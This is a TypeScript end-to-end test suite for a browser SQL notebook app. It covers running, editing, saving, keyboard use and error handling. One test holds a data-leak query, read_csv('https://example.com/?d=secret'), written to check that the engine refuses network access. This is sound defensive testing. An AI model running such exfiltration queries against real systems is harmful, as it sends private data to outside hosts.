import { readFileSync } from "node:fs";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { ended, stage, states, type Stage } from "./page.ts";

let built: Stage;
beforeAll(async () => void (built = await stage("start")));
afterAll(() => built.close());

type Spec = Record<string, unknown>;
const file = (name: string, text: string | Uint8Array, mimeType = "text/csv") => ({ name, mimeType, buffer: Buffer.from(text) });

/** A notebook of SQL cells, written down: `a=SELECT 1`. */
function written(...cells: string[]): string {
  const list = cells.map((cell) => ({ name: cell.split("=")[0], kind: "sql", spec: { query: cell.slice(cell.indexOf("=") + 1) } as Spec }));
  return JSON.stringify({ contraflow: 1, title: "By hand", cells: list });
}

/** Opens a notebook by the picker, as a reader does where the browser has no file handles. */
async function openNotebook(json: string, locale = "en-GB"): Promise<{ page: Page; errors: string[] }> {
  const opened = await built.open("", { locale });
  await opened.page.evaluate(() => Object.assign(window, { showOpenFilePicker: undefined, showSaveFilePicker: undefined }));
  const [chooser] = await Promise.all([opened.page.waitForEvent("filechooser"), opened.page.click("text=/Open notebook|打开笔记本/")]);
  await chooser.setFiles([file("by hand.json", json, "application/json")]);
  await opened.page.waitForSelector("[data-notebook], [role=alert], h2, .alone");
  return opened;
}

const alertOf = (page: Page, cell: string) => page.textContent(`[data-cell="${cell}"] [role=alert]`);
const run = async (page: Page) => {
  await page.click('header button:has-text("Run")');
  await ended(page);
};

test("a notebook from a file runs nothing until told to, then everything", async () => {
  const { page, errors } = await openNotebook(written("a=SELECT 41 AS x", "b=SELECT x + 1 AS y FROM a"));
  await page.waitForTimeout(400);
  expect(await states(page)).toEqual({ a: "idle", b: "idle" });
  expect(await page.textContent("main")).toContain("Nothing has run yet");
  await run(page);
  expect(await states(page)).toEqual({ a: "done", b: "done" });
  expect(await page.textContent('[data-cell="b"] table')).toContain("42");
  expect(errors).toEqual([]);
  await page.context().close();
});

test("a query that tries to reach the network is refused in words, and nothing was asked for", async () => {
  for (const [locale, word] of [
    ["en-GB", /locked .* does not reach .*example.com/],
    ["zh-CN", /引擎已锁定，不会访问.*example.com/],
  ] as const) {
    const { page } = await openNotebook(written("leak=FROM read_csv('https://example.com/?d=secret')", "after=SELECT 1 AS x"), locale);
    await page.click('header button:has-text("Run"), header button:has-text("运行")');
    await ended(page);
    expect(await states(page)).toEqual({ leak: "failed", after: "done" });
    expect(await alertOf(page, "leak")).toMatch(word);
    await page.context().close();
  }
  expect(built.recorder.foreign()).toEqual([]);
});

test("cells are edited, marked stale, renamed with their readers, deleted and brought back, undone and redone", async () => {
  const { page } = await openNotebook(written("a=SELECT 41 AS x", "b=SELECT x + 1 AS y FROM a"));
  await run(page);
  await page.click('[data-cell="a"] button[aria-label="Edit"]');
  await page.click('[data-cell="a"] .cm-content');
  await page.keyboard.press("Control+a");
  await page.keyboard.type("SELECT 1 AS x");
  await page.waitForSelector('[data-cell="b"][data-stale]');
  await page.keyboard.press("Control+Shift+Enter");
  await page.waitForSelector('[data-cell="b"]:not([data-stale])[data-state="done"]');
  expect(await page.textContent('[data-cell="b"] table')).toContain("2");
  await page.keyboard.press("Escape");

  await page.click('[data-cell="a"] button[aria-label="More for this cell"]');
  await page.click("[role=menuitem]:has-text('Rename')");
  await page.fill("[role=dialog] input", "b");
  await page.keyboard.press("Enter");
  expect(await page.textContent("[role=dialog]")).toContain("taken by “b”");
  await page.fill("[role=dialog] input", "numbers");
  await page.keyboard.press("Enter");
  await page.waitForSelector('[data-cell="numbers"][data-state="done"]');
  expect(await states(page)).toEqual({ numbers: "done", b: "done" });
  expect(await page.$("[data-stale]")).toBeNull();

  await page.click('[data-cell="numbers"] button[aria-label="More for this cell"]');
  await page.click("[role=menuitem]:has-text('Delete')");
  expect(Object.keys(await states(page))).toEqual(["b"]);
  await page.click("[role=status] button");
  await page.waitForSelector('[data-cell="numbers"][data-state="done"]');
  expect(await states(page)).toEqual({ numbers: "done", b: "done" });
  await page.context().close();
});

test("a saved notebook holds steps and no results, and opens again as the same file", async () => {
  const json = written("a=SELECT 41 AS x", "b=SELECT x + 1 AS y\nFROM a");
  const { page } = await openNotebook(json);
  await run(page);
  await page.evaluate(() => Object.assign(window, { showSaveFilePicker: undefined }));
  const [download] = await Promise.all([page.waitForEvent("download"), page.click('header button:has-text("Save")')]);
  const saved = readFileSync((await download.path())!, "utf8");
  expect(JSON.parse(saved)).toEqual({
    contraflow: 2,
    title: "By hand",
    cells: [
      { name: "a", kind: "sql", spec: { query: "SELECT 41 AS x" } },
      { name: "b", kind: "sql", spec: { query: ["SELECT x + 1 AS y", "FROM a"] } },
    ],
  });
  await page.context().close();
});

test("the notebook comes back after the tab was closed, without its data", async () => {
  const { page: closed } = await openNotebook(written("a=SELECT 41 AS x"));
  await run(closed);
  await closed.waitForTimeout(1200);
  const page = await closed.context().newPage();
  await closed.close();
  await page.goto(built.url);
  await page.click("text=Go on with “By hand”");
  await page.waitForSelector('[data-cell="a"]');
  expect(await states(page)).toEqual({ a: "idle" });
  await page.context().close();
});

test("the page is worked by keys alone", async () => {
  const { page } = await openNotebook(written("a=SELECT 1 AS x", "b=SELECT 2 AS y"));
  await page.keyboard.press("j");
  expect(await page.evaluate(() => document.activeElement?.getAttribute("data-cell"))).toBe("a");
  await page.keyboard.press("Shift+Enter");
  await page.waitForSelector('[data-cell="a"][data-state="done"]');
  expect(await page.evaluate(() => document.activeElement?.getAttribute("data-cell"))).toBe("b");
  await page.keyboard.press("Alt+ArrowUp");
  expect(Object.keys(await states(page))).toEqual(["b", "a"]);
  await page.keyboard.press("d");
  await page.keyboard.press("d");
  expect(Object.keys(await states(page))).toEqual(["a"]);
  await page.keyboard.press("Control+z");
  expect(Object.keys(await states(page))).toEqual(["b", "a"]);
  await page.keyboard.press("?");
  await page.waitForSelector("[role=dialog]");
  await page.keyboard.press("Escape");
  await page.waitForSelector("[role=dialog]", { state: "detached" });
  await page.context().close();
});

test("a cell shows the SQL it ran, word for word", async () => {
  const { page } = await openNotebook(written("a=SELECT 41 AS x"));
  await run(page);
  await page.click('[data-cell="a"] button[aria-label="More for this cell"]');
  await page.click("[role=menuitem]:has-text('Show SQL')");
  expect(await page.textContent("[role=dialog] pre")).toContain('CREATE OR REPLACE TABLE "a" AS SELECT 41 AS x;');
  await page.context().close();
});

test("the notebook is shown as slides, turned and left by keys", async () => {
  const { page, errors } = await openNotebook(written("a=SELECT 1 AS x", "b=SELECT 2 AS y"));
  await run(page);
  await page.keyboard.press("p");
  await page.waitForSelector('[data-slide="a"]');
  await page.keyboard.press("ArrowRight");
  await page.waitForSelector('[data-slide="b"]');
  expect(await page.textContent("[role=dialog] footer")).toContain("2 / 2");
  await page.keyboard.press("Escape");
  await page.waitForSelector("[data-slide]", { state: "detached" });
  expect(errors).toEqual([]);
  await page.context().close();
});

const refused: [string, string, RegExp, RegExp][] = [
  ["not JSON", "{ oops", /not JSON/, /不是 JSON/],
  ["no notebook", "{}", /not a Contraflow notebook/, /不是 Contraflow 笔记本/],
  ["from a newer page", '{"contraflow": 99}', /newer page/, /更新版本/],
];

test.each(refused)("a file that is %s is refused by name, and the page lives on", async (_, json, english, chinese) => {
  for (const [locale, words] of [
    ["en-GB", english],
    ["zh-CN", chinese],
  ] as const) {
    const { page } = await openNotebook(json, locale);
    const said = await page.textContent(".alone");
    expect(said).toMatch(words);
    expect(said).toContain("by hand.json");
    await page.click("text=/Start page|首页/");
    await page.waitForSelector("h1");
    await page.context().close();
  }
});

test("a circle of cells and a name that collides say so in their cells; the others run", async () => {
  const json = JSON.stringify({
    contraflow: 1,
    cells: [
      { name: "a", kind: "sql", spec: { query: "SELECT * FROM b" } },
      { name: "b", kind: "sql", spec: { query: "SELECT * FROM a" } },
      { name: "people", kind: "personas", spec: {} },
      { name: "people_members", kind: "sql", spec: { query: "SELECT 1 AS x" } },
      { name: "fine", kind: "sql", spec: { query: "SELECT 1 AS x" } },
      { name: "later", kind: "not-yet", spec: {} },
    ],
  });
  const { page } = await openNotebook(json);
  await run(page);
  expect(await alertOf(page, "a")).toContain("wait for each other: a, b");
  expect(await alertOf(page, "people_members")).toContain("already made by “people”");
  expect(await alertOf(page, "later")).toContain("not-yet");
  expect((await states(page)).fine).toBe("done");
  await page.context().close();
});

test("files that were dropped become sources: GB18030 read right, what is no table refused by name", async () => {
  const { page } = await built.open("");
  const gbk = Uint8Array.from([0xbf, 0xcd, 0xbb, 0xa7, 0x2c, 0xc4, 0xea, 0xc1, 0xe4, 0x0a, 0xd5, 0xc5, 0xc8, 0xfd, 0x2c, 0x33, 0x30, 0x0a]);
  const [chooser] = await Promise.all([page.waitForEvent("filechooser"), page.click("text=Choose files")]);
  await chooser.setFiles([file("客户.csv", gbk), file("empty.csv", ""), file("picture.parquet", Uint8Array.from([1, 2, 3, 0, 255, 254, 0, 7]))]);
  await ended(page);
  expect(await states(page)).toEqual({ 客户: "done", empty: "failed", picture: "failed" });
  await expect.poll(() => page.textContent('[data-cell="客户"]')).toContain("张三");
  expect(await alertOf(page, "empty")).toContain("empty.csv");
  expect(await alertOf(page, "picture")).toContain("picture.parquet");
  await page.context().close();
});
